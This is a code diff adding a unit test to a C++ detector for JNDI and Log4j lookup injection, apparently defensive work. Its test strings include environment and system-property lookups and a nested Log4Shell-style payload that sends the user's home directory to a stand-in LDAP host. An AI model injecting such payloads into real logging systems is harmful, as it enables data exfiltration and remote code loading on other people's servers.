@@ -3,6 +3,7 @@
 
 #include "gtest/gtest.h"
 #include "runtime/detect/detector.h"
+#include "tests/unit/detect/detect_test_support.h"
 #include "tests/unit/detect/detector_cases.h"
 
 namespace fnguard::detect {
@@ -112,6 +113,16 @@ TEST(JndiTest, CommonsTextLookupsThatAct) {
   }
 }
 
+
+TEST(JndiTest, DirectoryPropertiesInLogPaths) {
+  // A logging configuration's path names a directory property.
+  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:catalina.home}/logs/app-%d.log"), "");
+  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:java.io.tmpdir}/x"), "");
+  // Other properties and the environment still leak.
+  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:user.name}"), "jndi.sensitive_lookup");
+  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${env:HOME}"), "jndi.sensitive_lookup");
+  EXPECT_NE(testing::RuleOf(JndiDetector(), "${jndi:ldap://${sys:user.home}.e.test/a}"), "");
+}
 
 }  // namespace
 }  // namespace fnguard::detect
